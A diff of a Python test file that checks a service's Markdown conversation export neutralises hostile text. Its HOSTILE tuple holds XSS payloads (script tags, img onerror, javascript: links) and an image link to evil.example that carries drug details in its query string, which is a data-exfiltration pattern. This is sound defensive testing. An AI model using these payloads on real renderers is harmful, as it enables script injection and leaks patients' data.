@@ -10,6 +10,7 @@ from pathlib import Path
 
 import httpx2
 import pytest
+from markdown_it import MarkdownIt
 
 from pipeline.errors import PageFileChanged
 from pipeline.service.access.policy import DEMO
@@ -17,7 +18,7 @@ from pipeline.service.pages.assets import Assets
 from pipeline.service.pages.failures import own_path
 from pipeline.service.pages.rendering import Renderer
 from pipeline.service.pages.views import Stretch, statement_view, stretches
-from pipeline.service.pages.words import one_line
+from pipeline.service.pages.words import verbatim
 from pipeline.service.schemas import CitationOut
 from tests.service.running import PASSWORD, QUESTION, ROOT, Running, copied, running, settings_in
 
@@ -138,8 +139,39 @@ def test_a_note_is_cut_at_its_ranges_and_loses_nothing(
     assert stretches("abcdef", spans) == [Stretch(*each) for each in expected]
 
 
-def test_a_line_of_a_note_begins_nothing_in_an_exported_file() -> None:
-    assert one_line("a\n# b\n<img>|c") == "a # b &lt;img>\\|c"
+HOSTILE = (
+    "![allopurinol](https://evil.example/p.png?q=allopurinol100mg)",
+    "[Anna Mitchell](javascript:alert(1))",
+    "[1]: https://evil.example",
+    "<script>alert(1)</script> <img src=x onerror=alert(1)>",
+    "<https://evil.example> https://evil.example www.evil.example a@evil.example",
+    "a\n# b\n\n| a | b |\n|---|---|\n> quoted\n- item\n1. item\n***\n```js\ncode\n```\n    indented",
+    "`![x](https://evil.example)` ``[y](https://evil.example)`` ` ``",
+    "\\`[z](https://evil.example)\\`",
+    "`" * 70 + "[x](https://evil.example)",
+    " ".join("`" * length for length in range(1, 90)) + " ![x](https://evil.example) <b>",
+    "&lt;b&gt; &#91;x&#93;(y) ~~gone~~ *bold* _it_ $x$ ^1 :smile: {.class} \u202egnp.exe",
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("line", ["# {}", "## {}", "- {} [1]", "- [1] {}, patient {}, 2024-01-01: {}", "{}"])
+def test_whatever_somebody_wrote_is_only_text_in_an_exported_file(text: str, line: str) -> None:
+    quoted = verbatim(text)
+    parser = MarkdownIt("gfm-like", {"linkify": False}).enable(["table", "strikethrough"])
+    tokens = parser.parse(line.format(*[quoted] * 3))
+    leaves = [leaf for token in tokens for leaf in (token.children or [token])]
+    kinds = {token.type.removesuffix("_open").removesuffix("_close") for token in [*tokens, *leaves]}
+    assert kinds <= {
+        *("inline", "heading", "paragraph", "bullet_list", "list_item", "text", "text_special", "code_inline")
+    }
+    shown = "".join(leaf.content for leaf in leaves if leaf.type in ("code_inline", "text", "text_special"))
+    assert " ".join(text.split()) in shown
+
+
+def test_ordinary_words_stay_as_they_are() -> None:
+    assert verbatim("Continue allopurinol\n100 mg.") == "` Continue allopurinol 100 mg. `"
+    assert verbatim("") == ""
 
 
 # --- where it leads
@@ -264,3 +296,24 @@ def test_every_form_carries_it(service: Running) -> None:
         forms = re.findall(r'<form[^>]*method="post".*?</form>', page, re.DOTALL)
         assert forms, path
         assert all('name="csrf_token"' in form for form in forms), path
+
+
+def test_an_exported_file_holds_no_link_no_picture_and_no_markup(service: Running) -> None:
+    owner = service.browser("reader")
+    question = f"{QUESTION} {' '.join(HOSTILE[:5])} `x` # y"
+    asked = owner.post("/ask", data={"question": question}, headers=PAGE)
+    conversation = asked.headers["location"]
+    more = {"question": QUESTION, "conversation_id": conversation.rpartition("/")[2]}
+    assert owner.post("/ask", data=more, headers=PAGE).headers["location"] == conversation
+    exported = owner.get(f"{conversation}/export.md").text
+    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(exported)
+    leaves = [leaf for token in tokens for leaf in (token.children or ())]
+    kinds = {token.type for token in [*tokens, *leaves]}
+    assert not {
+        kind for kind in kinds if kind.startswith(("link", "image", "html", "table", "fence", "code_block"))
+    }
+    headings = [tokens[at + 1] for at, token in enumerate(tokens) if token.type == "heading_open"]
+    assert [[leaf.type for leaf in heading.children or ()] for heading in headings] == [["code_inline"]] * 3
+    shown = "".join(leaf.content for leaf in leaves)
+    assert "Patient reports taking allopurinol." in shown
+    assert "javascript:alert(1)" in shown
